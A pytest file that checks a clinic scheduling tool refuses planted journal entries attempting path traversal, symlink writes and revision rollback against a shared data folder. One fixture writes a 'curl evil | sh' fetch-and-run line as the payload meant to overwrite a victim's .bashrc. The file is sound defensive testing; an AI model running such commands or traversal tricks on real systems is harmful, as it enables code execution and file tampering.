"""What one member of the practice's group can do to another through the shared data folder: change the
practice's data (that is what the group is for), but never make another member's command write outside
the folder or replace a file of theirs."""

from __future__ import annotations

import json
import os

import pytest

from tests.conftest import small_practice


@pytest.fixture
def clinic(tmp_path, cli):
    small_practice(cli.data)
    home = tmp_path / "victim-home"
    home.mkdir()
    bashrc = home / ".bashrc"
    bashrc.write_text("echo hello\n")
    return cli, bashrc


def _plant(folder, files, revision=None, txid="a" * 32):
    manifest = json.loads((folder / "revision.json").read_text())
    rev = revision if revision is not None else manifest["revision"] + 1
    entry = {"txid": txid, "files": files, "audit": [],
             "revision": {"revision": rev, "time": "2026-11-23T14:00:00+00:00", "txid": txid,
                          "files": manifest["files"]}}
    (folder / "journal.json").write_text(json.dumps(entry))
    return entry


def _refused(cli, bashrc, planted):
    code, out, err = cli("list")
    assert code == 3, (out, err)
    assert "journal.json was not written by tui-scheduler" in err and len(err.strip().splitlines()) == 1
    assert bashrc.read_text() == "echo hello\n"
    assert json.loads((cli.data / "journal.json").read_text()) == planted  # left for a person to look at


def test_a_planted_journal_cannot_replace_a_file_outside_the_folder(clinic):
    cli, bashrc = clinic
    evil = cli.data / ".evil"
    evil.write_text("curl evil | sh\n")
    planted = _plant(cli.data, [[".evil", str(bashrc)]])
    _refused(cli, bashrc, planted)
    planted = _plant(cli.data, [[".clients.json.tx-" + "a" * 32, "../victim-home/.bashrc"]])
    _refused(cli, bashrc, planted)


def test_a_planted_journal_cannot_pull_a_file_in_from_outside(clinic):
    cli, bashrc = clinic
    planted = _plant(cli.data, [[str(bashrc), "clients.json"]])
    _refused(cli, bashrc, planted)
    assert bashrc.exists()


def test_a_planted_journal_cannot_write_through_a_symlinked_folder(clinic):
    cli, bashrc = clinic
    (cli.data / "sneaky").symlink_to(bashrc.parent)
    tmp = cli.data / "sneaky" / (".bashrc.json.tx-" + "a" * 32)
    planted = _plant(cli.data, [["sneaky/.bashrc.json.tx-" + "a" * 32, "sneaky/bashrc.json"]])
    tmp.write_text("{}")
    _refused(cli, bashrc, planted)
    assert not (bashrc.parent / "bashrc.json").exists()


def test_a_planted_journal_cannot_set_the_revision_back(clinic):
    cli, bashrc = clinic
    before = json.loads((cli.data / "revision.json").read_text())["revision"]
    planted = _plant(cli.data, [], revision=1)
    _refused(cli, bashrc, planted)
    assert json.loads((cli.data / "revision.json").read_text())["revision"] == before


def test_a_symlinked_audit_log_is_not_followed(clinic):
    cli, bashrc = clinic
    audit = cli.data / "audit.jsonl"
    audit.unlink()
    audit.symlink_to(bashrc)
    code, _, err = cli("room", "add", "Oak", "--kind", "massage")
    assert code == 3 and len(err.strip().splitlines()) == 1
    assert bashrc.read_text() == "echo hello\n"


def test_a_symlinked_data_file_is_not_read(clinic):
    cli, bashrc = clinic
    rooms = cli.data / "rooms.json"
    rooms.unlink()
    rooms.symlink_to(bashrc)
    code, _, err = cli("room", "list")
    assert code == 3 and "symbolic link" in err and "echo hello" not in err


def test_a_symlinked_appointments_folder_is_not_written_through(clinic):
    cli, bashrc = clinic
    months = cli.data / "appointments"
    for p in months.iterdir():
        p.unlink()
    months.rmdir()
    months.symlink_to(bashrc.parent)
    code, _, err = cli("book", "session", "--client", "Ann", "--therapist", "Maya", "--room", "Cedar",
                       "--modality", "swedish", "--start", "2026-11-24 10:00", "--minutes", "60")
    assert code == 3 and "symbolic link" in err
    assert sorted(os.listdir(bashrc.parent)) == [".bashrc"]
